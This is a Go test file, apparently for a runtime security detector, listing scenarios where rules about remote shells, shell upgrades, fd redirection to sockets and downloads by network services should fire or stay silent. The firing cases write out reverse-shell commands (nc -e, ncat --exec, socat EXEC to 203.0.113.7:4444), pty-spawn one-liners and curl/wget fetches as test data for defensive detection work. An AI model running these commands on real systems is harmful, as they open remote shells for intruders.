@@ -1,0 +1,108 @@
+package policies_test
+
+var shellsScenarios = []scenario{
+	{
+		rule: "Remote shell tool",
+		fires: []activity{
+			exec("nc -e /bin/sh 203.0.113.7 4444"),
+			exec("nc -lvp 4444 -e /bin/bash"),
+			exec("ncat --exec /bin/bash 203.0.113.7 4444", in("web")),
+			exec("socat TCP:203.0.113.7:4444 EXEC:/bin/bash,pty"),
+		},
+		silent: []activity{
+			exec("nc -z db 5432"),
+			exec("socat TCP-LISTEN:80,fork TCP:web:8080"),
+			exec("tool -e /bin/sh"),
+		},
+	},
+	{
+		rule: "Shell opened a network connection",
+		fires: []activity{
+			connect("203.0.113.7:4444", by("bash -i"), in("web")),
+			connect("10.1.2.3:80", by("zsh")),
+			connect("[2001:db8::1]:443", by("bash")),
+			connect("203.0.113.7:4444", by("bash"), failed(115)),
+		},
+		silent: []activity{
+			connect("203.0.113.7:443", by("curl https://example.org")),
+			connect("203.0.113.7:4444", by("bash"), failed(111)),
+			connect("203.0.113.7:80", by("/bin/busybox wget http://x")),
+		},
+	},
+	{
+		rule: "Interactive shell without a terminal",
+		fires: []activity{
+			exec("sh -i", below("python3"), in("web")),
+			exec("/bin/bash -i", below("perl")),
+		},
+		silent: []activity{
+			exec("bash -i", tty(pts0), below("tmux: server")),
+			exec("sh -c ls -i", below("make")),
+		},
+	},
+	{
+		rule: "Input and output handed to a connection",
+		fires: []activity{
+			duplicate(0, by("python3"), in("web")),
+			duplicate(2, by("sh"), in("web")),
+		},
+		silent: []activity{
+			duplicate(7, by("python3"), in("web")),
+			duplicate(0, by("python3")),
+			duplicate(0, by("xinetd"), in("web")),
+		},
+	},
+	{
+		rule: "Shell started by a network service",
+		fires: []activity{
+			exec("sh -c id", below("nginx"), user(33, "www-data")),
+			exec("bash", below("postgres"), user(70, "postgres"), in("postgres")),
+			exec("sh -c id", below("php-fpm8.2")),
+		},
+		silent: []activity{
+			exec("sh -c locale -a", below("postgres")),
+			exec("sh -c test ! -f /archive/1", below("postgres"), parentCommand("postgres: archiver last was 1")),
+			exec("sh -c id", below("bash")),
+			exec("id", below("nginx")),
+		},
+	},
+	{
+		rule: "Terminal shell in a container",
+		fires: []activity{
+			exec("bash", in("nginx"), tty(pts0), runcInit),
+			exec("/bin/busybox sh", named("sh"), in("alpine"), tty(pts0), runcInit),
+		},
+		silent: []activity{
+			exec("bash", tty(pts0), below("sshd")),
+			exec("sh -c true", in("nginx"), tty(noTTY), runcInit),
+			exec("bash", in("nginx"), tty(pts0), below("bash", "runc:[2:INIT]")),
+			exec("ls", in("nginx"), tty(pts0), runcInit),
+		},
+	},
+	{
+		rule: "Terminal made by a script",
+		fires: []activity{
+			execArgs("python3", []string{"-c", "import pty; pty.spawn('/bin/bash')"}, below("sh", "nginx"), in("web")),
+			execArgs("perl", []string{"-e", "use Socket; exec('/bin/sh -i')"}, below("sh")),
+			exec("script -qc /bin/bash /dev/null", below("sh"), in("web")),
+		},
+		silent: []activity{
+			execArgs("python3", []string{"-c", "print(1)"}),
+			exec("python3 app.py"),
+			exec("script -qc make /dev/null", tty(pts0)),
+			execArgs("perl", []string{"-e", "print 1"}),
+		},
+	},
+	{
+		rule: "Download by a network service",
+		fires: []activity{
+			exec("curl -s http://203.0.113.7/x", below("sh", "nginx"), in("web")),
+			exec("wget http://203.0.113.7/x", below("postgres")),
+		},
+		silent: []activity{
+			exec("curl -s http://203.0.113.7/x", below("bash", "sshd")),
+			exec("curl localhost", below("bash", "sshd", "nginx")),
+			exec("nginx -t", below("nginx")),
+		},
+	},
+}
